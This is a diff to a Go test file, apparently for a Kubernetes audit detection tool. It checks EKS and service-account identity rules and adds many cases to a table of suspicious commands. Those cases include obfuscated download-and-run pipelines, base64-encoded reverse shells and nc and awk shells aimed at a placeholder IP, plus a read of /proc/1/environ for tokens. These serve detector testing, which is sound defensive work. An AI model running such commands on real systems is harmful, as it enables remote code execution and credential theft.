@@ -28,12 +28,24 @@ func TestPartsAreIdentityAndProgram(t *testing.T) {
 		{"another account of kube-system that calls itself so", controllers, account + "coredns", agentControllers, false},
 		{"a controller's name in another namespace", controllers, "system:serviceaccount:shop:replicaset-controller", agentControllers, false},
 		{"an account that is called a controller", controllers, account + "evil-controller", agentControllers, false},
-		{"a part of EKS", eksService, "eks:addon-manager", "Go-http-client/2.0", true},
-		{"a part of EKS with kubectl", eksService, "eks:addon-manager", "kubectl/v1.35.0", false},
-		{"a part of EKS that hides its program", eksService, "eks:addon-manager", "", false},
+		{"a part of EKS", eksAddOns, "eks:addon-manager", "Go-http-client/2.0", true},
+		{"a part of EKS with kubectl", eksAddOns, "eks:addon-manager", "kubectl/v1.35.0", false},
+		{"a part of EKS that hides its program", eksAddOns, "eks:addon-manager", "", false},
+		{"another part of EKS", eksAddOns, "eks:node-manager", "Go-http-client/2.0", false},
+		{"a part of EKS with kubectl of Windows", eksAddOns, "eks:addon-manager", "kubectl.exe/v1.35.0", false},
+		{"the one that makes a cluster, with kubectl", eksAddOns, "eks:cluster-bootstrap", "kubectl/v1.35.0", true},
+		{"AWS's support", eksPart, "eks:support-engineer", "kubectl/v1.35.0", false},
+		{"a user who is called like one", eksPart, "eks:operator", "Go-http-client/2.0", false},
+		{"any part of EKS", eksPart, "eks:k8s-metrics", "Go-http-client/2.0", true},
 		{"a person by hand", byHand, "dev@example.com", "anything/1.0", true},
 		{"a program by itself", byHand, "system:serviceaccount:ops:operator", "operator/1.0", false},
 		{"a program's token by hand", byHand, "system:serviceaccount:ops:operator", "curl/8.5.0", true},
+		{"a program's token by hand on Windows", byHand, "system:serviceaccount:ops:operator", "Kubectl.EXE/v1.35.0 (windows/amd64) kubernetes/0000000", true},
+		{"a program's token by a plugin", byHand, "system:serviceaccount:ops:operator", "kubectl-ns/v0.0.0 (linux/amd64) kubernetes/$Format", true},
+		{"a program's token by a tool in Go", byHand, "system:serviceaccount:ops:operator", "Go-http-client/2.0", true},
+		{"a program's token by a script in Python", byHand, "system:serviceaccount:ops:operator", "Python/3.12 aiohttp/3.9.1", true},
+		{"a program in Go with the library of Kubernetes", byHand, "system:serviceaccount:ops:operator", "operator/v0.0.0 (linux/amd64) kubernetes/$Format", false},
+		{"a program whose name begins like a tool's", byHand, "system:serviceaccount:ops:operator", "occupancy/1.0", false},
 		{"a program's token with a client that hides its name", byHand, "system:serviceaccount:ops:operator", "", true},
 	}
 	for _, test := range tests {
@@ -44,6 +56,25 @@ func TestPartsAreIdentityAndProgram(t *testing.T) {
 				t.Errorf("with %q by %q it is %t", test.agent, test.user, got)
 			}
 		})
+	}
+	for arn, want := range map[string]bool{
+		"arn:aws:sts::111122223333:assumed-role/AWSWesleyClusterManagerLambda-Add-AddonManagerRole-1A2B/1700000000": true,
+		"arn:aws:sts::111122223333:assumed-role/AWSServiceRoleForAmazonEKS/EKS":                                     true,
+		"arn:aws:sts::111122223333:assumed-role/deployer/mallory":                                                   false,
+		"arn:aws:iam::111122223333:user/AWSWesleyClusterManagerLambda":                                              false,
+	} {
+		var a rule.Action
+		user := event.User{Name: "eks:addon-manager", Extra: event.Raw(`{"arn":["` + arn + `"]}`)}
+		a.Reset(&event.Event{User: user, UserAgent: "Go-http-client/2.0", SourceIPs: `["10.0.3.7"]`}, &rule.Surroundings{})
+		if eksAddOns(&a) != want {
+			t.Errorf("%s as a part of EKS: %t", arn, !want)
+		}
+	}
+	var mapped rule.Action
+	user := event.User{Name: "eks:cluster-bootstrap", Extra: `{"arn":["arn:aws:sts::111122223333:assumed-role/deployer/mallory"]}`}
+	mapped.Reset(&event.Event{User: user, UserAgent: "kubectl/v1.35.0", SourceIPs: `["10.0.3.7"]`}, &rule.Surroundings{})
+	if eksAddOns(&mapped) {
+		t.Error("an IAM role that aws-auth calls eks:cluster-bootstrap is a part of EKS")
 	}
 	var trimmed rule.Action
 	trimmed.Reset(&event.Event{User: event.User{Name: "system:node:n1"}}, &rule.Surroundings{})
@@ -89,7 +120,31 @@ func TestSuspicions(t *testing.T) {
 		{"cat /proc/1/environ", "token of the service account"},
 		{"wget -qO- https://198.51.100.7/i.sh | bash", "download and run"},
 		{"sh -c curl -so /tmp/x https://198.51.100.7/x && chmod +x /tmp/x && /tmp/x", "download and run"},
-		{"echo aWQK | base64 -d | sh", "download and run"},
+		{"echo aWQK | base64 -d | sh", "unpack and run"},
+		{"bash -c {echo,Y3VybA}|{base64,-d}|{bash,-i}", "unpack and run"},
+		{"bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjcvNDQ0NCAwPiYx}|{base64,-d}|{bash,-i}", "reverse shell"},
+		{"sh -c curl${IFS}-s${IFS}https://198.51.100.7/i.sh|sh", "download and run"},
+		{"sh -c c''url -s https://198.51.100.7/i.sh | b\\ash", "download and run"},
+		{"wget -qO- https://198.51.100.7/i.sh | busybox sh", "download and run"},
+		{"wget -qO- https://198.51.100.7/i.sh | /bin/busybox ash", "download and run"},
+		{"curl -s https://198.51.100.7/i.sh | sudo -u root /usr/bin/env bash", "download and run"},
+		{"curl -s https://198.51.100.7/i.txt | sudo tee /etc/i.sh", ""},
+		{"/bin/sh -c /bin/sh -c \"curl https://198.51.100.7/i.sh | /bin/sh\"", "download and run"},
+		{"bash -c \"$(wget -qO- https://198.51.100.7/i)\"", "download and run"},
+		{"bash -c `curl https://198.51.100.7/i`", "download and run"},
+		{"sh -c curl -so /tmp/x https://198.51.100.7/x\nchmod +x /tmp/x\n/tmp/x", "download and run"},
+		{"python3 -c import base64;exec(base64.b64decode('aWQ='))", "unpack and run"},
+		{"python3 -c import base64;exec(base64.b64decode('aW1wb3J0IHNvY2tldCxzdWJwcm9jZXNzO3M9c29ja2V0LnNvY2tldCgpO3N1YnByb2Nlc3MuY2FsbChbInNoIl0p'))", "reverse shell"},
+		{"sh -c eval $(echo aWQK | base64 -d)", "unpack and run"},
+		{"echo 6964 | xxd -r -p | sh", "unpack and run"},
+		{"sh -c nc 198.51.100.7 4444 | sh", "reverse shell"},
+		{"awk BEGIN {s = \"/inet/tcp/0/198.51.100.7/4444\"}", "reverse shell"},
+		{"sh -c echo $CONFIG | base64 -d > /etc/config", ""},
+		{"sh -c curl -s http://localhost/metrics | grep requests", ""},
+		{"bash -c pg_dump shop | gzip | base64", ""},
+		{"python3 -c import base64; print(base64.b64encode(b'shop'))", ""},
+		{"node server.js --base64", ""},
+		{"sh -c echo {\"a\":1,\"b\":2} > /tmp/x", ""},
 		{"curl -s http://localhost:8080/healthz", ""},
 		{"sh -c ls | sort", ""},
 		{"env", ""},
